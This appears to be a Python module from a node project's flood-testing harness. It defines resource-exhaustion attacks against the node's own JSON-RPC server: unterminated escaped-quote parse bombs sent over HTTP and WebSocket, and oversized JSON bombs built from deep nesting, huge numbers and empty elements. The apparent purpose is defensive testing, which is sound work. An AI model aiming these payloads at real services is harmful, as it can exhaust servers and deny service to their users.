"""Bodies that cost more to read than to send."""

from __future__ import annotations

import trio

from devnet.proofs.flood.attack import attack
from devnet.proofs.flood.rpc.posting import post_again_and_again
from devnet.proofs.flood.scene import SOURCE_ADDRESS, Scene
from devnet.proofs.flood.websocket_client import WebSocketError, open_socket
from node.rpc.jsonrpc import MAX_DEPTH, MAX_REQUEST_MEBIBYTES

MAX_REQUEST_BYTES = MAX_REQUEST_MEBIBYTES * 1024 * 1024
QUOTES = b'"' + b'\\"' * (MAX_REQUEST_BYTES // 2 - 1)


@attack("C3", messages_max=2_000)
async def parse_bomb(scene: Scene) -> None:
    """1 MB of escaped quotes that no quote ends: a search that began anew at each of them took half an hour."""
    await post_again_and_again(scene, lambda _: QUOTES, clients=4)


@attack("C3", messages_max=2_000)
async def parse_bomb_by_websocket(scene: Scene) -> None:
    """The same as a WebSocket message."""
    await scene.begin()
    async for _ in scene.paced(2, at_once=1):
        try:
            socket = await open_socket(scene.victim.ports.rpc, SOURCE_ADDRESS)
            scene.sent(1, len(QUOTES))
            await socket.send(QUOTES)
            await socket.receive()
            await socket.aclose()
            scene.note("answered")
        except (WebSocketError, OSError, trio.BrokenResourceError) as error:
            scene.note(f"no answer: {type(error).__name__}")


@attack("M7", messages_max=5_000)
async def json_bombs(scene: Scene) -> None:
    """1 MB of empty strings, of numbers of 4,000 digits, of brackets to the permitted depth, of short objects."""
    size = MAX_REQUEST_BYTES - 16
    deepest = b"[" * (MAX_DEPTH - 1) + b"]" * (MAX_DEPTH - 1) + b","
    bodies = [b"[" + part * (size // len(part)) + b"0]" for part in (b'"",', b"9" * 4_000 + b",", deepest, b"{},")]
    await post_again_and_again(scene, lambda number: bodies[number % len(bodies)], clients=4)
